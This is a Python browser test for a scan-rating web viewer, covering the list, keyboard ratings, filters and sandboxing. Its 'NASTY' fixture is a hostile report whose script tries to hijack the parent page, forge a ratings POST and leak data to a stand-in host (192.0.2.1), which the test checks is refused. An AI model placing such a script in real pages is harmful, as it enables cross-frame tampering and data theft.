"""The page in a real browser: list, reports, ratings by keyboard, and not one request to anywhere else."""

import re
import time
from pathlib import Path

import pytest
from tiny_view import copy_run, record, write_cohort, write_run

from itermask.apps.view.ratings import Ratings
from itermask.apps.view.server import ViewServer
from itermask.types import VERDICTS

CHROMIUM = Path("/usr/bin/chromium")
PATIENCE = 60_000  # ms; a busy machine draws slowly
ODD = "sub-<b> #1%"  # a name that must be text, and be found again by its address
NASTY = """<!DOCTYPE html><title>{name} – itermask report</title><p id="p">unharmed</p><script>
document.querySelector("#p").textContent = "ran";
for (const act of [
  () => {{ parent.document.title = "taken"; }},
  () => {{ fetch("../ratings", {{ method: "POST", body: "{{}}" }}).catch(() => {{}}); }},
  () => {{ new Image().src = "http://192.0.2.1/leak"; }},
  () => {{ top.location = "http://192.0.2.1/leak"; }},
]) {{ try {{ act(); }} catch {{ }} }}
</script>"""


def until(done):
    """Whether something comes to be."""
    end = time.monotonic() + PATIENCE / 1000
    while not done() and time.monotonic() < end:
        time.sleep(0.05)
    return done()


@pytest.fixture(scope="module")
def browser():
    if not CHROMIUM.exists():
        pytest.skip("Chromium is not installed (Debian package chromium)")
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed (extra dev)")
    with sync_api.sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
        yield started
        started.close()


@pytest.fixture
def out(tmp_path):
    run = write_run(tmp_path / "first" / "wide", verdict=VERDICTS[2])
    copy_run(run, tmp_path / "first" / ODD, 1.25)
    bad = record("bad", 1.5, VERDICTS[1], outputs=["bad.html"])
    write_cohort(tmp_path / "first", bad, record("broken", reason="broken.nii.gz: truncated"))
    (tmp_path / "first" / "bad.html").write_text(NASTY.format(name="bad"))
    return tmp_path / "first"


@pytest.mark.servers
def test_looking_and_rating(browser, out):
    server = ViewServer(out, port=0, rater="me")
    server.start()
    page = browser.new_page(viewport={"width": 1300, "height": 900})
    page.set_default_timeout(PATIENCE)
    problems, requests, missing = [], [], []
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("console", lambda message: problems.append(message.text) if message.type == "error" else None)
    page.on("response", lambda answer: missing.append(answer.url) if answer.status >= 400 else None)
    page.on("request", lambda request: requests.append(request))

    def names():
        return page.locator("#list b").all_text_contents()

    def chosen():
        return page.inner_text("#list [aria-current=true] b")

    def saved(words="saved"):
        page.locator("#saved").filter(has_text=re.compile(f"^{words}")).wait_for()
        return {scan: (one.rating, one.comment) for scan, one in Ratings(out).last().items()}

    # The list, the least normal first, and its first report in a sandbox.
    page.goto(server.address)
    page.locator("#list b").first.wait_for()
    assert names() == ["wide", "bad", ODD, "broken"]
    assert page.inner_text("#count") == "4 of 4 scans shown, 0 rated"
    first = page.locator("#list li").first.inner_text()
    assert "outside the healthy range" in first
    assert "score 3.20 (healthy up to 1.70)" in first
    assert "mL" in first
    page.locator("#list img").first.wait_for()
    assert until(lambda: page.locator("#list img").first.evaluate("image => image.naturalWidth") > 10)
    page.frame_locator("#report iframe").locator("h1", has_text="head_T1w.nii.gz").wait_for()
    assert [one for one in problems if "404" not in one] == []
    assert {url.rpartition("/")[2] for url in missing} <= {"bad.html"}, "a report without pictures"

    # Ratings by keyboard are on the disk at once.
    page.keyboard.press("g")
    assert saved() == {"wide": ("good", "")}
    assert page.get_attribute("[data-rating=good]", "aria-pressed") == "true"
    page.keyboard.press("c")
    page.keyboard.type("ringing\nn and b are letters here")
    page.keyboard.press("Escape")
    assert saved() == {"wide": ("good", "ringing\nn and b are letters here")}
    page.keyboard.press("2")
    assert saved() == {"wide": ("bad", "ringing\nn and b are letters here")}

    # A report may not do anything to the page, to the ratings, or to the network.
    before = len(Ratings(out).all())
    page.keyboard.press("n")
    assert chosen() == "bad"
    page.frame_locator("#report iframe").locator("#p", has_text="ran").wait_for()
    page.wait_for_timeout(300)
    assert page.title() == "first – itermask view"
    assert page.url.startswith(server.address)
    assert len(Ratings(out).all()) == before
    assert any("192.0.2.1" in one for one in problems), "what it tried was refused"

    # Odd names, failed scans, withdrawn ratings, and going on after each.
    page.check("#onward")
    page.keyboard.press("u")
    page.locator("#name", has_text=ODD).wait_for()
    page.frame_locator("#report iframe").locator("h1").wait_for()
    page.keyboard.press("j")
    page.locator("#report", has_text="broken.nii.gz: truncated").wait_for()
    page.keyboard.press("n")
    assert page.text_content("#news") == "This is the last scan of the list."
    page.keyboard.press("p")
    page.keyboard.press("p")
    page.keyboard.press("0")
    assert saved("withdrawn")["bad"] == ("", "")

    # Filters, and orders.
    page.select_option("#rated", "bad")
    assert names() == ["wide"]
    page.select_option("#rated", "")
    page.fill("#search", "truncated")
    assert names() == ["broken"]
    page.fill("#search", "")
    page.select_option("#verdict", VERDICTS[1])
    assert names() == ["bad"]
    page.select_option("#verdict", "")
    page.select_option("#order", "best")
    assert names() == [ODD, "bad", "wide", "broken"]

    # After a reload everything is as it was; keys can be turned off.
    page.reload()
    page.locator("#list b").first.wait_for()
    assert chosen() == "bad"
    page.locator("#list button").first.click()
    assert page.get_attribute("[data-rating=bad]", "aria-pressed") == "true"
    page.uncheck("#keys")
    page.keyboard.press("g")
    assert page.get_attribute("[data-rating=bad]", "aria-pressed") == "true"

    # What could not be saved is said, kept, and saved when that can be done.
    server.stop()
    page.click("[data-rating=unsure]")
    page.locator("#problem", has_text="Not saved: no answer").wait_for()
    assert "unsure, not saved" in page.locator("#list li").first.inner_text()
    elsewhere = [one for one in requests if not one.url.startswith((server.address, "data:", "blob:"))]
    assert {(one.url, one.failure) for one in elsewhere} <= {("http://192.0.2.1/leak", "csp")}, "refused in the browser"
    page.close()


def test_dark_and_on_a_phone(browser, out):
    server = ViewServer(out, port=0)
    server.start()
    page = browser.new_page(viewport={"width": 390, "height": 844}, color_scheme="dark")
    page.goto(server.address)
    page.locator("#list button").first.wait_for()
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(22, 27, 32)"
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    sizes = "() => [...document.querySelectorAll('body *')].map((part) => parseFloat(getComputedStyle(part).fontSize))"
    assert min(page.evaluate(sizes)) >= 11
    page.close()
    server.stop()
